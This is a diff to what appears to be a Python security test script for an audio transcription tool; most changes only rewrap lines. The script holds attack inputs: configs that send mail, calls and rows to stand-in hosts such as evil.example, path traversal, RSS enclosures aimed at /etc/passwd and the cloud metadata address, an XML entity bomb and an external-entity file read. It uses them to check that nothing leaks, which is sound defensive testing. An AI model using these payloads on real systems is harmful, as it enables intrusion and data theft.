@@ -1,4 +1,5 @@
-"""Attack what happens before and after a transcript: feeds, streams, services, destinations; with all of attack.py.
+"""Attack what happens before and after a transcript: feeds, streams, services, destinations; with
+all of attack.py.
 
     python tools/attack_flows.py [--only flow] [--one-of-each] [--jobs N]
 
@@ -16,8 +17,8 @@ import attack
 from attack import GOOD, Hut, answered, each, must
 
 FOREIGN = {
-    "mail": 'mail = { server = "smtp://mail.evil.example", sender = "a@b.example", to = ["c@d.example"] }',
-    "mail with a key": 'mail = { server = "smtp://127.0.0.1:9", user = "u", password = "env:MARSH_KEY", '
+    "mail": 'mail = { server = "smtp://mail.evil.example", sender = "a@b.example", to = ["c@d.example"] }',  # noqa: E501
+    "mail with a key": 'mail = { server = "smtp://127.0.0.1:9", user = "u", password = "env:MARSH_KEY", '  # noqa: E501
     'sender = "a@b.example", to = ["c@d.example"] }',
     "a call": 'call.url = "https://evil.example/take"',
     "a call that looks near": 'call.url = "http://127.0.0.1@evil.example/take"',
@@ -26,7 +27,7 @@ FOREIGN = {
     "copies outside by a name": 'copy.to = "{text}/../../elsewhere"',
     "copies into a storage": 'copy.to = "s3://evil/x"',
     "rows outside": 'rows = { file = "../elsewhere/x.csv", columns = { a = "text" } }',
-    "rows in a database": 'rows = { database = "postgresql://me@evil.example/x", columns = { a = "text" } }',
+    "rows in a database": 'rows = { database = "postgresql://me@evil.example/x", columns = { a = "text" } }',  # noqa: E501
     "a service with a key": 'service = "thief"',
 }
 PLAIN = """
@@ -57,7 +58,10 @@ def foreign(hut: Hut, after: object) -> None:
         (hut.folder / "mantisreed.toml").write_text(settings)
         for command in ("run a.wav", "watch . --until-idle 1s", "submit a.wav", "collect", "retry"):
             ended = hut.run(*command.split(), trust=False)
-            must(ended.returncode in (0, 2), f"{command}: exit code {ended.returncode}: {ended.stderr[-300:]}")
+            must(
+                ended.returncode in (0, 2),
+                f"{command}: exit code {ended.returncode}: {ended.stderr[-300:]}",
+            )
     must(not hut.heads, "a request went out")
     must(not (hut.folder / "was-here").exists(), "something was started")
     must(not list(elsewhere.iterdir()), "something was written outside")
@@ -100,8 +104,14 @@ def spoiled(hut: Hut, body: object) -> None:
             ended = hut.run("run", "a.wav", "--json")
             (one,) = json.loads(ended.stdout)["recordings"]
             must(one["state"] == "done", one["state"])
-            must("Traceback" not in ended.stderr and "internal error" not in ended.stderr, ended.stderr[-300:])
-    must(sum("application/json" in head for head in hut.heads) <= 2, "it was paid for again and again")
+            must(
+                "Traceback" not in ended.stderr and "internal error" not in ended.stderr,
+                ended.stderr[-300:],
+            )
+    must(
+        sum("application/json" in head for head in hut.heads) <= 2,
+        "it was paid for again and again",
+    )
 
 
 each("flow reply", BODIES, spoiled)
@@ -114,7 +124,7 @@ rows = {{ file = "kept.csv", columns = {{ said = "text" }} }}
 copy.to = "kept/{{text}}"
 [after.mail]
 mail = {{ server = "{server}", sender = "a@marsh.example", to = ["b@marsh.example"], subject = "{{text}}" }}
-"""
+"""  # noqa: E501
 
 
 @attack.attack("flow text: headers, paths and formulas in what an engine says")
@@ -135,30 +145,47 @@ def said(hut: Hut) -> None:
     must(not row["said"].startswith("="), "a spreadsheet would run it")
     copied = list(hut.folder.parent.rglob("a.txt"))
     inside = (hut.folder / "kept", hut.folder / "transcripts")
-    must(all(any(path.is_relative_to(one) for one in inside) for path in copied), f"copied to {copied}")
+    must(
+        all(any(path.is_relative_to(one) for one in inside) for path in copied),
+        f"copied to {copied}",
+    )
 
 
-ITEM = '<item><title>{title}</title><guid>{n}</guid><enclosure url="{link}" type="audio/wav" length="1"/></item>'
+ITEM = (
+    '<item><title>{title}</title><guid>{n}</guid><enclosure url="{link}" type="audio/wav" '
+    'length="1"/></item>'
+)
 HEAD = '<?xml version="1.0"?><rss version="2.0"><channel><title>x</title>'
 
 
 def items(*links: str, title: str = "x") -> bytes:
-    entries = "".join(ITEM.format(title=title, n=number, link=link) for number, link in enumerate(links))
+    entries = "".join(
+        ITEM.format(title=title, n=number, link=link) for number, link in enumerate(links)
+    )
     return f"{HEAD}{entries}</channel></rss>".encode()
 
 
 FEEDS: dict[str, object] = {
-    "forty thousand entries": lambda port: items(*(f"http://127.0.0.9:{port}/{n}" for n in range(40_000))),
-    "enclosures near this machine": lambda port: items(f"http://127.0.0.9:{port}/a.wav", "http://169.254.169.254/x"),
-    "enclosures that are files": lambda port: items("file:///etc/passwd", "/etc/passwd", "../../etc/passwd"),
+    "forty thousand entries": lambda port: items(
+        *(f"http://127.0.0.9:{port}/{n}" for n in range(40_000))
+    ),
+    "enclosures near this machine": lambda port: items(
+        f"http://127.0.0.9:{port}/a.wav", "http://169.254.169.254/x"
+    ),
+    "enclosures that are files": lambda port: items(
+        "file:///etc/passwd", "/etc/passwd", "../../etc/passwd"
+    ),
     "entities of entities": lambda port: (
         b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
-        + b"".join(f'<!ENTITY a{n} "{f"&a{n - 1 if n else str()};" * 10}">'.encode() for n in range(12))
+        + b"".join(
+            f'<!ENTITY a{n} "{f"&a{n - 1 if n else str()};" * 10}">'.encode() for n in range(12)
+        )
         + b"]><rss version='2.0'><channel><title>&a11;</title></channel></rss>"
     ),
     "an entity that is a file": lambda port: (
         b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
-        b"<rss version='2.0'><channel><item><title>&a;</title><enclosure url='x' type='audio/x'/></item></channel>"
+        b"<rss version='2.0'><channel><item><title>&a;</title><enclosure url='x' "
+        b"type='audio/x'/></item></channel>"
         b"</rss>"
     ),
     "depth": lambda port: HEAD.encode() + b"<item>" * 100_000,
@@ -172,11 +199,16 @@ def fed(hut: Hut, make: object) -> None:
     with inner.serving(lambda head, body: answered(b"the hut's secret"), "0.0.0.0") as here:
         port = here.rpartition(":")[2]
         feed = make(port)  # type: ignore[operator]
-        with hut.serving(lambda head, body: answered(feed if " /feed" in head else b"", status="200 OK")) as url:
+        with hut.serving(
+            lambda head, body: answered(feed if " /feed" in head else b"", status="200 OK")
+        ) as url:
             hut.card("http://127.0.0.1:9")
             ended = hut.run("inspect", f"{url}/feed.xml", "--newest", "3")
     must(ended.returncode in (1, 2), f"exit code {ended.returncode}")
-    must("Traceback" not in ended.stderr and "root:" not in ended.stdout + ended.stderr, ended.stderr[-300:])
+    must(
+        "Traceback" not in ended.stderr and "root:" not in ended.stdout + ended.stderr,
+        ended.stderr[-300:],
+    )
     must(not inner.heads, "somebody near was reached")
 
 
@@ -186,7 +218,8 @@ STREAMS: dict[str, bytes] = {
     "nothing": b"",
     "one byte": b"\x00",
     "noise": bytes(range(256)) * 4000,
-    "a head that promises four gigabytes": b"RIFF\xff\xff\xff\xffWAVEjunk\xff\xff\xff\xff" + bytes(1000),
+    "a head that promises four gigabytes": b"RIFF\xff\xff\xff\xffWAVEjunk\xff\xff\xff\xff"
+    + bytes(1000),
     "no channels": b"RIFF\0\0\0\0WAVEfmt \x10\0\0\0" + bytes(16) + b"data\0\0\0\0" + bytes(100_000),
     "another container": b"OggS" + bytes(100_000),
 }
@@ -203,7 +236,10 @@ def streamed(hut: Hut, content: object) -> None:
             command, cwd=hut.folder, input=content, capture_output=True, timeout=60, env=environment
         )
     must(ended.returncode in (0, 1, 2), f"exit code {ended.returncode}")
-    must(b"Traceback" not in ended.stderr and b"internal error" not in ended.stderr, ended.stderr[-300:].decode())
+    must(
+        b"Traceback" not in ended.stderr and b"internal error" not in ended.stderr,
+        ended.stderr[-300:].decode(),
+    )
 
 
 each("flow stream", dict(STREAMS), streamed)
